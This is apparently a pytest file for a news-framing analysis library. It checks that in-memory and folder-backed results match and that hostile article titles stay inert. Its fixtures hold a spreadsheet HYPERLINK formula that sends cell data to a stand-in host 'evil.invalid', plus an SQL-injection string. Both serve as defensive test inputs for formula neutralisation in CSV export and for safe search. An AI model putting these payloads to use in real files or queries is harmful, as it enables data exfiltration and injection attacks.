"""The one Results interface: the same answers over in-memory frames and over a results
folder, URLs in the scores, events without side effects, hostile text stays data."""

from __future__ import annotations

import datetime as dt
import json

import pandas as pd
import pytest

from framing.analysis import analyse
from framing.codebook import Codebook
from framing.corpus import Article, Corpus
from framing.engines import EngineResult, run_local
from framing.results import ArticleView, Results

from test_scoring_pipeline import CODEBOOK_YAML

FORMULA = '=HYPERLINK("http://evil.invalid/?d="&A1,"x")'


@pytest.fixture
def corpus():
    rows = [
        ("r1", "Wire A", dt.date(2025, 1, 6), "Border attack kills three", "https://a.example/1",
         "Militants attacked a border post. Foreign agents fund the militants who attack the nation."),
        ("r2", "Wire B", dt.date(2025, 1, 6), FORMULA, "",
         "Militants attacked a border post on Monday. Soldiers sacrificed their lives defending it."),
        ("r3", "Wire A", dt.date(2025, 3, 1), "' OR 1=1 -- %", "https://a.example/3",
         "The state uses militant proxies against dissidents. Security agencies sponsor armed groups."),
    ]
    return Corpus([Article(i, o, d, t, text, url=u) for i, o, d, t, u, text in rows])


@pytest.fixture
def codebook():
    return Codebook.from_yaml(CODEBOOK_YAML)


@pytest.fixture
def both(corpus, codebook, hashing_encoder, tmp_path):
    memory = analyse(corpus, codebook, encoder=hashing_encoder)
    folder = run_local(corpus, codebook, encoder=hashing_encoder, out_dir=tmp_path / "run", events=True)
    return memory, EngineResult.open(folder.out_dir)


def test_memory_and_folder_answer_alike(both, corpus):
    memory, folder = both
    assert isinstance(memory, Results) and isinstance(folder, Results)
    pd.testing.assert_frame_equal(memory.scores, folder.scores, check_dtype=False)
    assert memory.scores["url"].tolist() == [a.url for a in corpus]
    for method, args in [("outlet_counts", ()), ("articles_per_period", ("month",)), ("article_list", ()),
                         ("search_articles", ("wire b",)), ("score_rows", (["r3", "r1"],))]:
        left, right = getattr(memory, method)(*args), getattr(folder, method)(*args)
        (pd.testing.assert_series_equal if isinstance(left, pd.Series) else pd.testing.assert_frame_equal)(
            left, right, check_dtype=False)
    assert memory.score_rows(["r3", "r1"])["article_id"].tolist() == ["r1", "r3"]     # input order
    assert memory.events_page(singles=True)[0] == folder.events_page(singles=True)[0] == memory.n_events
    assert memory.texts(["r2"]) == folder.texts(["r2"]) == {"r2": corpus["r2"].text}
    assert folder.article("r1") == corpus["r1"]
    assert memory.summary()["articles"] == folder.summary()["articles"] == 3
    assert memory.n_sentences == folder.n_sentences == len(memory.sentences)
    ev = folder.evidence_for(["r1"])
    assert set(ev["article_id"]) == {"r1"} and len(ev) == (memory.evidence["article_id"] == "r1").sum()
    for results in both:
        event = results.scores.loc[0, "event_id"]
        assert results.event_articles(event)["article_id"].iloc[0] == "r1"
        assert results.event_info(event)["event_size"] >= 1
    view = ArticleView(folder)
    assert len(view) == 3 and view["r2"].title == FORMULA and view.texts(["r3"]) == {"r3": corpus["r3"].text}
    assert memory.time_freq() == "W"


def test_hostile_text_is_data_in_queries(both):
    memory, _ = both
    assert memory.search_articles("' OR 1=1 --")["article_id"].tolist() == ["r3"]
    assert memory.search_articles("%").article_id.tolist() == ["r3"]
    assert memory.events_page("' OR 1=1 --", singles=True)[0] == 1
    with pytest.raises(KeyError):
        memory.article("no-such-id")
    with pytest.raises(ValueError, match="no column"):
        memory.axis_sample("nope")


def test_streamed_csv_export_neutralises_formulas(both, tmp_path):
    _, folder = both
    folder.export(tmp_path / "csv", format="csv")
    titles = pd.read_csv(tmp_path / "csv" / "scores.csv")["title"].tolist()
    assert "'" + FORMULA in titles and FORMULA not in titles
    assert json.loads((tmp_path / "csv" / "manifest.json").read_text())["cells"] == "neutralised"
    folder.export(tmp_path / "raw", format="csv", neutralise_formulas=False)
    assert FORMULA in pd.read_csv(tmp_path / "raw" / "scores.csv")["title"].tolist()
    assert json.loads((tmp_path / "raw" / "manifest.json").read_text())["cells"] == "raw"


def test_comparison_is_computed_once_and_cached_on_disk(both):
    _, folder = both
    first = folder.comparison()
    assert set(first) >= {"means", "differences", "distinctive_terms", "prevalence", "coverage"}
    assert list((folder.folder / "comparison").glob("*/tables.json"))
    again = EngineResult.open(folder.folder).comparison()
    pd.testing.assert_frame_equal(first["means"], again["means"])


def test_save_and_open_a_memory_result(both, tmp_path):
    memory, _ = both
    memory.save(tmp_path / "saved")
    back = Results.open(tmp_path / "saved")
    pd.testing.assert_frame_equal(memory.scores, back.scores, check_dtype=False)
    assert back.doc_vectors.shape == memory.doc_vectors.shape
    with pytest.raises(ValueError, match="not a framing results folder"):
        Results.open(tmp_path)


def test_events_are_clustered_once_not_on_reading_scores(corpus, codebook, hashing_encoder, monkeypatch):
    import framing.events

    calls = []
    real = framing.events.cluster_events
    monkeypatch.setattr(framing.events, "cluster_events", lambda *a, **k: calls.append(1) or real(*a, **k))
    result = analyse(corpus, codebook, encoder=hashing_encoder)
    assert calls == [1]
    result.scores, result.scores, result.events_page()
    assert calls == [1]
    no_events = analyse(corpus, codebook, encoder=hashing_encoder, events=False)
    assert no_events.scores["event_id"].isna().all() and calls == [1]
